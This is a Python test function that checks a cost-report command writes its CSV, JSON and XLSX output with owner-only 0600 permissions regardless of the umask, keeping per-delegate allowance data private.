def test_a_cost_report_is_written_for_its_owner_alone(tmp_path: Path) -> None:
    """Allowances and costs per named delegate are the finance office's: 0600, as a booklet
    with private reminders, whatever the umask."""
    import os

    before = os.umask(0o022)
    try:
        for fmt in ("csv", "json", "xlsx"):
            target = tmp_path / f"costs.{fmt}"
            assert run("costs", "--format", fmt, "--out", target).exit_code == 0
            assert target.stat().st_mode & 0o777 == 0o600, fmt
    finally:
        os.umask(before)
